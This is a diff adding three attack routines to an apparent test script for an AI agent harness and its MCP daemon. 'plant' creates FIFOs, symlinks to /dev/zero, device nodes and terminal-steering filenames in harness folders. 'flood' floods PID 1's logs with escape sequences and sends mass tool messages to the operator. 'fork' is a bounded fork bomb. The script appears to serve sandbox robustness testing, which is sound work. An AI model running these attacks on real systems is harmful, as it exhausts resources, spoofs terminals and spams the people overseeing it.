@@ -6,6 +6,7 @@ Usage: attack.py KIND, with what it needs to know as JSON on stdin; what came of
 import contextlib
 import json
 import os
+import signal
 import socket
 import sys
 import urllib.error
@@ -26,6 +27,7 @@ INITIALIZE = {
         "clientInfo": {"name": "forged", "version": "0"},
     },
 }
+NOTED = {"jsonrpc": "2.0", "method": "notifications/initialized"}
 MIB = 1 << 20
 NOISE: list[bytes] = [
     b"",
@@ -54,6 +56,9 @@ def main(kind: str) -> None:
         "forge": forge,
         "impersonate": impersonate,
         "noise": noise,
+        "plant": plant,
+        "flood": flood,
+        "fork": fork,
     }
     json.dump(tries[kind](json.load(sys.stdin)), sys.stdout)
 
@@ -213,6 +218,85 @@ def noise(told: dict[str, Any]) -> object:
                 except OSError:
                     continue
     return len(silent)
+
+
+def plant(told: dict[str, Any]) -> object:
+    """Put links, pipes, sockets and devices where the daemon may look, and names that steer a terminal."""
+    made = []
+    names = [
+        ".credentials.json",
+        "notes.md",
+        "launch.json",
+        "log",
+        "status",
+        "\x1b[2Jname",
+        "a\nb",
+        "\u202exe.txt",
+    ]
+    for folder in ("/state", "/claude", "/harness", "/generation", "/run/hive", "/agents"):
+        for n, name in enumerate(names):
+            path = Path(folder) / name
+            with contextlib.suppress(OSError):
+                path.unlink(missing_ok=True)
+                if n % 3:
+                    path.symlink_to("/dev/zero")
+                else:
+                    os.mkfifo(path)
+            if path.is_symlink() or path.is_fifo():
+                made.append(str(path))
+        for number in (os.makedev(1, 1), os.makedev(8, 0)):
+            with contextlib.suppress(OSError):
+                os.mknod(f"{folder}/device", 0o60600, number)
+                made.append(f"{folder}/device")
+        for target in told["targets"]:
+            with contextlib.suppress(OSError):
+                os.link(target, f"{folder}/hard")
+                made.append(f"{folder}/hard")
+    return made
+
+
+def flood(told: dict[str, Any]) -> object:
+    """Say too much: into its log, to everybody, in the operator's words and in the terminal's."""
+    line = ("x" * 1000 + "\x1b]0;pwned\x07\n").encode()
+    written = 0
+    for stream in ("/proc/1/fd/1", "/proc/1/fd/2"):
+        with contextlib.suppress(OSError), Path(stream).open("ab", buffering=0) as log:
+            for _ in range(told["lines"]):
+                written += log.write(line)
+    refused = []
+    with socket.socket(socket.AF_UNIX) as s:
+        s.settimeout(60)
+        s.connect(MCP)
+        lines = s.makefile("rb")
+        s.sendall(json.dumps(INITIALIZE).encode() + b"\n" + json.dumps(NOTED).encode() + b"\n")
+        lines.readline()
+        for n in range(told["messages"]):
+            to, body = ("operator", "bob")[n % 2], told["bodies"][n % len(told["bodies"])]
+            asked = {"name": "send", "arguments": {"to": to, "body": body}}
+            call = {"jsonrpc": "2.0", "id": n + 2, "method": "tools/call", "params": asked}
+            s.sendall(json.dumps(call).encode() + b"\n")
+            while (answer := json.loads(lines.readline())).get("id") != n + 2:
+                pass
+            if answer.get("error") or answer["result"].get("isError"):
+                refused.append(n)
+    return {"written": written, "refused": len(refused)}
+
+
+def fork(told: dict[str, Any]) -> object:
+    """Start processes until that is refused; how many there were."""
+    children: list[int] = []
+    try:
+        while len(children) < told["most"]:
+            child = os.fork()
+            if child == 0:
+                signal.pause()
+            children.append(child)
+    except OSError:
+        pass
+    for child in children:
+        os.kill(child, signal.SIGKILL)
+        os.waitpid(child, 0)
+    return len(children)
 
 
 if __name__ == "__main__":
